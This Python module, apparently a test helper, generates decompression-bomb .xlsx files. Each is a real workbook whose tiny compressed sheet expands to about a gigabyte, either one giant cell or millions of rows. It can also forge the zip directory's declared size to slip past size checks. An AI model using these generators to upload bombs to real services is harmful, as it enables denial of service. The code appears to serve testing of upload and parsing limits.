"""Decompression-bomb workbooks, built in milliseconds.

A sheet of a gigabyte is never held in memory here: it is one repeated unit, and once the
deflate window is full of it, every block of it compresses to the same bytes, so the stream
is those bytes repeated. The package is a real .xlsx (content types, workbook, relations,
one sheet), written by hand so a member's declared size can also be forged.
"""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass

BLOCK_BYTES = 1024 * 1024

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/'
    b'sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    b'worksheet+xml"/></Types>'
)
RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
    b"schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    b'" Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.'
    b'org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" '
    b'r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
    b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://'
    b"schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
    b'" Target="worksheets/sheet1.xml"/></Relationships>'
)
SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.'
    b'org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


@dataclass(frozen=True)
class Member:
    name: str
    deflated: bytes
    crc: int
    size: int
    declared: int | None = None  # a forged uncompressed size, if any


def member(name: str, data: bytes) -> Member:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Member(name, c.compress(data) + c.flush(), zlib.crc32(data), len(data))


def repeated(name: str, prefix: bytes, unit: bytes, count: int, suffix: bytes) -> Member:
    """``prefix + unit * count + suffix``, deflated without ever being built."""
    per_block = max(1, BLOCK_BYTES // len(unit))
    block = unit * per_block
    blocks, rest = divmod(count, per_block)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    if blocks < 3:
        whole = prefix + unit * count + suffix
        return Member(name, c.compress(whole) + c.flush(), zlib.crc32(whole), len(whole))
    first = c.compress(prefix + block) + c.flush(zlib.Z_SYNC_FLUSH)
    again = c.compress(block) + c.flush(zlib.Z_SYNC_FLUSH)
    assert again == c.compress(block) + c.flush(zlib.Z_SYNC_FLUSH), "blocks differ"
    last = c.compress(unit * rest + suffix) + c.flush()
    crc = zlib.crc32(prefix)
    for _ in range(blocks):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(unit * rest + suffix, crc)
    size = len(prefix) + len(unit) * count + len(suffix)
    return Member(name, first + again * (blocks - 1) + last, crc, size)


def package(sheet: Member, *extra: Member) -> bytes:
    """An .xlsx holding ``sheet`` as its only worksheet (and ``extra`` parts)."""
    members = [
        member("[Content_Types].xml", CONTENT_TYPES),
        member("_rels/.rels", RELS),
        member("xl/workbook.xml", WORKBOOK),
        member("xl/_rels/workbook.xml.rels", WORKBOOK_RELS),
        sheet,
        *extra,
    ]
    out, directory = bytearray(), bytearray()
    for m in members:
        name = m.name.encode()
        size = m.size if m.declared is None else m.declared
        fields = (20, 0, 8, 0, 0x21, m.crc, len(m.deflated), size, len(name))
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + name + m.deflated
        directory += (
            struct.pack("<IH", 0x02014B50, 20)
            + struct.pack("<HHHHHIIIHHHHHII", *fields, 0, 0, 0, 0, 0, offset)
            + name
        )
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), len(out), 0
    )
    return bytes(out + directory + end)


def huge_cell_xlsx(size: int = 1100 * 1024 * 1024, *, declared: int | None = None) -> bytes:
    """One sheet whose A1 holds ``size`` bytes of one repeated character (about 1 MB of
    upload per gigabyte); ``declared`` forges the size its directory states."""
    sheet = repeated(
        "xl/worksheets/sheet1.xml",
        SHEET_HEAD + b'<row r="1"><c r="A1" t="inlineStr"><is><t>',
        b"A",
        size,
        b"</t></is></c></row>" + SHEET_TAIL,
    )
    if declared is not None:
        sheet = Member(sheet.name, sheet.deflated, sheet.crc, sheet.size, declared)
    return package(sheet)


def many_rows_xlsx(rows: int = 20_000_000) -> bytes:
    """One sheet of ``rows`` rows of one number each (row numbers are optional in OOXML)."""
    return package(
        repeated(
            "xl/worksheets/sheet1.xml",
            SHEET_HEAD,
            b"<row><c><v>1</v></c></row>",
            rows,
            SHEET_TAIL,
        )
    )
